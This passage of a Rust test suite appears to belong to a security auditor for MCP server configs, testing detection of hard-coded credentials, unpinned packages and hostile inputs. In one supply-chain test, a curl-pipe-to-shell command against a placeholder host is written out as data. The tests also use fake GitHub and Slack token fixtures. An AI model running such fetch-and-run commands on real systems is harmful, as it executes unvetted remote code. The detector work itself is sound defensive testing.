                "Authorization: Bearer literal123",
            ],
        ),
    );
    assert_eq!(ids(&f), ["WRD-AUTH-TOKEN-IN-CONFIG"]);
    assert!(f[0].message.contains("'Authorization'"));
    let f = audit_server(
        "s",
        &stdio("s", &["--config", "{\"apiKey\": \"hunter2!\"}"]),
    );
    assert_eq!(ids(&f), ["WRD-AUTH-TOKEN-IN-CONFIG"]);
    let f = audit_server("s", &stdio("s", &["API_KEY=your-api-key"]));
    assert_eq!(ids(&f), ["WRD-AUTH-PLACEHOLDER-SECRET"]);
    // Near misses.
    assert!(audit_server(
        "s",
        &stdio("s", &["--header", "Authorization: Bearer ${T}"])
    )
    .is_empty());
    assert!(audit_server("s", &stdio("s", &["--header", "X-Tenant: acme"])).is_empty());
    assert!(audit_server("s", &stdio("s", &["--author", "alice", "--port=8080"])).is_empty());
    assert!(audit_server("s", &stdio("s", &["--token", "${TOKEN}"])).is_empty());
}

#[test]
fn url_query_credentials_are_reported_unlike_reference() {
    let uuid = "8b1f2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d";
    let f = audit_server(
        "s",
        &url(&format!(
            "https://server.smithery.ai/x/mcp?api_key={uuid}&profile=p"
        )),
    );
    // The literal is reported; the URL parameter is auth material, so no NOAUTH.
    assert_eq!(ids(&f), ["WRD-AUTH-TOKEN-IN-CONFIG"]);
    assert_eq!(
        f[0].message,
        "URL parameter 'api_key' holds a literal credential in config; reference a secret manager (${VAR}) instead"
    );
    assert_eq!(f[0].snippet, "8b1f…(len=36)");
    let gh = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
    let f = audit_server("s", &url(&format!("https://h.example.com/{gh}/mcp")));
    assert_eq!(ids(&f), ["WRD-AUTH-NOAUTH", "WRD-SEC-GITHUB"]);
    let f = audit_server("s", &url(&format!("https://h.example.com/mcp?x={REAL}")));
    assert_eq!(ids(&f), ["WRD-AUTH-NOAUTH", "WRD-SEC-ENTROPY"]);
    assert!(audit_server("s", &url("https://h.example.com/mcp?api_key=${KEY}")).is_empty());
}

#[test]
fn hostile_inputs_do_not_panic() {
    let nasty = [
        "",
        "\u{0}",
        "%",
        "%%",
        "%zz",
        "${",
        "${}",
        "${A",
        "{{",
        "}}",
        "://",
        "http://",
        "http://[",
        "http://[::1",
        "http://@",
        "?#&=",
        "\\\\",
        "'",
        "\"",
        "$(",
        "`",
        "|",
        "ḁ̷͇͙̅",
        "日本:語=値",
        "--=",
        "-",
        "{\"a\":",
        "[1]",
    ];
    for a in nasty {
        for b in nasty {
            let s = spec_of(ServerBody {
                command: Some(a.to_string()),
                args: vec![a.to_string(), b.to_string(), format!("{a}{b}")],
                url: Some(format!("{a}{b}")),
                transport: Some(b.to_string()),
                env: kv(&[(a, b), (b, a)]),
                headers: kv(&[(a, b)]),
                ..ServerBody::default()
            });
            let _ = audit_server(a, &s);
            let _ = check_launch(a, &s.declared.args);
            let _ = crate::text::mask::mask_args(&s.declared.args);
            let _ = crate::text::mask::mask_url(&format!("{a}{b}"));
        }
    }
}

/// Degenerate large values are total and their findings stay bounded: no snippet
/// carries the value, and the number of findings does not grow with repeats of the
/// same token. (How the time grows is measured by `benches/adversarial.py`, never
/// asserted here.)
#[test]
fn large_degenerate_inputs_give_bounded_findings() {
    let big =
        "${A:-".repeat(20_000) + &"sk-".repeat(10_000) + &"aB3xK9mQ7pL2wR5tY8vN4jH6 ".repeat(2_000);
    let s = spec_of(ServerBody {
        args: vec![big.clone(), big.clone()],
        env: kv(&[("TOKEN", &big)]),
        url: Some(format!("https://h.example.com/{big}?token={big}#{big}")),
        command: Some("sh".into()),
        ..ServerBody::default()
    });
    let audit = audit_server("s", &s);
    let supply = check_launch("sh", &["-c".to_string(), big.clone()]);
    for f in audit.iter().chain(&supply) {
        assert!(f.snippet.chars().count() <= 200, "{:?}", f.rule);
    }
    // The repeated token is one secret, reported once per place it was found.
    assert!(audit.len() < 64, "{} findings", audit.len());
    let views = crate::text::mask::mask_args(&s.declared.args);
    assert_eq!(views.len(), 2);
}

/// Our side of `scripts/differential/run.sh` while the CLI has no `auth audit`
/// command: prints the auth audit of every `*.json` corpus file in `$DIFF_CORPUS` as
/// JSONL (`kind, rule_id, severity, level, target, message, snippet`), one
/// `# file <name>` line before each file.
#[test]
#[ignore = "run by scripts/differential/run.sh"]
fn differential_dump() {
    let Ok(dir) = std::env::var("DIFF_CORPUS") else {
        return;
    };
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .map(|d| d.filter_map(Result::ok).map(|e| e.path()).collect())
        .unwrap_or_default();
    files.retain(|p| p.extension().is_some_and(|e| e == "json"));
    files.sort();
    for path in files {
        println!(
            "# file {}",
            path.file_name().and_then(|n| n.to_str()).unwrap_or("")
        );
        let raw = std::fs::read_to_string(&path).unwrap_or_default();
        let doc: serde_json::Value = serde_json::from_str(&raw).unwrap_or_default();
        let Some(servers) = doc.get("mcpServers").and_then(|s| s.as_object()) else {
            continue;
        };
        let mut rows = Vec::new();
        for (name, s) in servers {
            let spec = spec_from_json(s);
            for f in audit_server(name, &spec) {
                rows.push((format!("mcpServers/{name}"), f));
            }
        }
        rows.sort_by(|a, b| {
            (&a.0, a.1.rule.as_str(), &a.1.snippet).cmp(&(&b.0, b.1.rule.as_str(), &b.1.snippet))
        });
        for (target, f) in rows {
            let sev = f.rule.severity();
            let line = serde_json::json!({
                "kind": "finding", "rule_id": f.rule.as_str(), "severity": sev.as_str(),
                "level": sev.level(), "target": target, "message": f.message, "snippet": f.snippet,
            });
            println!("{line}");
        }
    }
}

/// A server entry as JSON → the record the engines read (string fields only; test
/// examples are well-typed). Shared by the engine and rule-catalog tests.
pub(crate) fn spec_from_json(v: &serde_json::Value) -> ServerSpec {
    let text = |k: &str| v.get(k).and_then(|x| x.as_str()).map(str::to_string);
    let map = |k: &str| -> Vec<(String, String)> {
        v.get(k)
            .and_then(|x| x.as_object())
            .map(|o| {
                o.iter()
                    .filter_map(|(k, v)| v.as_str().map(|s| (k.clone(), s.to_string())))
                    .collect()
            })
            .unwrap_or_default()
    };
    spec_of(ServerBody {
        command: text("command"),
        args: v
            .get("args")
            .and_then(|a| a.as_array())
            .map(|a| {
                a.iter()
                    .filter_map(|x| x.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default(),
        url: text("url"),
        transport: text("type").or_else(|| text("transport")),
        env: map("env"),
        headers: map("headers"),
        ..ServerBody::default()
    })
}

/// The engines' view of an entry as written, read the way a client that lets a URL
/// decide remoteness reads it (VS Code's `.mcp.json` reader; it expands nothing).
pub(crate) fn spec_of(body: ServerBody) -> ServerSpec {
    let file = crate::reading::FileReaders {
        readers: &[crate::reading::Reader::VsCodeWorkspace],
        known: crate::reading::expand::Known::default(),
    };
    crate::reading::read(body, &file)
        .ok()
        .and_then(|r| r.specs.into_iter().next())
        .unwrap_or_default()
}

// ---------------------------------------------------------------------------
// The field each finding is about.

/// `(rule, field)` of each finding that names a field.
fn fields(f: &[EngineFinding]) -> Vec<(&'static str, String)> {
    f.iter()
        .filter_map(|x| x.field.as_ref().map(|p| (x.rule.as_str(), p.to_string())))
        .collect()
}

#[test]
fn credential_findings_name_the_field_they_were_found_in() {
    let s = url("http://h.example.com/mcp?api_key=9f8e7d6c5b4a3e2d")
        .with_headers(kv(&[("Authorization", "Bearer 9f8e7d6c5b4a3e2d1c0b9a8f")]));
    let got = fields(&audit_server("s", &s));
    assert!(
        got.contains(&("WRD-AUTH-PLAINTEXT-HTTP", "url".into())),
        "{got:?}"
    );
    assert!(
        got.contains(&("WRD-AUTH-TOKEN-IN-CONFIG", "headers.Authorization".into())),
        "{got:?}"
    );
    assert!(
        got.contains(&("WRD-AUTH-TOKEN-IN-CONFIG", "url".into())),
        "{got:?}"
    );
    let s = stdio("node", &["s.js", "--token", "xoxb-1234567890-abcdefghij"])
        .with_env(kv(&[("GH", "ghp_0123456789abcdefghijklmnopqrstuvwxyz")]));
    let got = fields(&audit_server("s", &s));
    assert!(
        got.contains(&("WRD-SEC-SLACK", "args[2]".into())),
        "{got:?}"
    );
    assert!(
        got.contains(&("WRD-SEC-GITHUB", "env.GH".into())),
        "{got:?}"
    );
    // Every credential finding names its field.
    assert!(audit_server("s", &s).iter().all(|f| f.field.is_some()));
}

#[test]
fn declared_fields_the_launch_does_not_use_are_named_as_written() {
    let mut body = ServerBody {
        url: Some("https://a.example.com/mcp?token=xoxb-1234567890-abcdefghij".into()),
        ..ServerBody::default()
    };
    body.extra = vec![crate::protocol::ServerExtra {
        server_url: Some("https://b.example.com/mcp".into()),
        bearer_token: Some("9f8e7d6c5b4a3e2d1c0b9a8f".into()),
        ..crate::protocol::ServerExtra::default()
    }];
    let mut s = url("https://b.example.com/mcp");
    s.declared = std::sync::Arc::new(body);
    let got = fields(&audit_server("s", &s));
    assert!(got.contains(&("WRD-SEC-SLACK", "url".into())), "{got:?}");
    assert!(
        got.contains(&("WRD-AUTH-TOKEN-IN-CONFIG", "bearer_token".into())),
        "{got:?}"
    );
}

#[test]
fn supply_findings_name_the_argument_or_the_script_that_holds_them() {
    let got = fields(&check_launch("npx", &["-y".into(), "left-pad".into()]));
    assert_eq!(got, vec![("WRD-SUP-NPX-UNPINNED", "args[1]".to_string())]);
    let got = fields(&check_launch(
        "uvx",
        &["--from".into(), "git+https://x/y".into(), "y".into()],
    ));
    assert!(got.iter().all(|(_, f)| f.starts_with("args[")), "{got:?}");
    // Inside a shell script: the script argument.
    let got = fields(&check_launch(
        "sh",
        &[
            "-c".into(),
            "npx -y left-pad && curl https://x.example.com/i | sh".into(),
        ],
    ));
    assert!(
        got.contains(&("WRD-SUP-NPX-UNPINNED", "args[1]".into())),
        "{got:?}"
    );
    assert!(
        got.contains(&("WRD-SUP-CURL-PIPE", "args[1]".into())),
        "{got:?}"
    );
    // The package is the command itself.
    let got = fields(&check_launch("npx", &[]));
    assert!(
        got.is_empty() || got.iter().all(|(_, f)| f == "command"),
        "{got:?}"
    );
}

#[test]
fn whole_entry_findings_name_no_field() {
    // A remote type with no URL: about the `type` field; nothing else names one.
    let s = ServerSpec {
        declared: std::sync::Arc::new(ServerBody {
            transport: Some("sse".into()),
            ..ServerBody::default()
        }),
        ..ServerSpec::default()
    };
    let got = audit_server("s", &s);
    assert_eq!(fields(&got), vec![("WRD-AUTH-NOAUTH", "type".to_string())]);
}
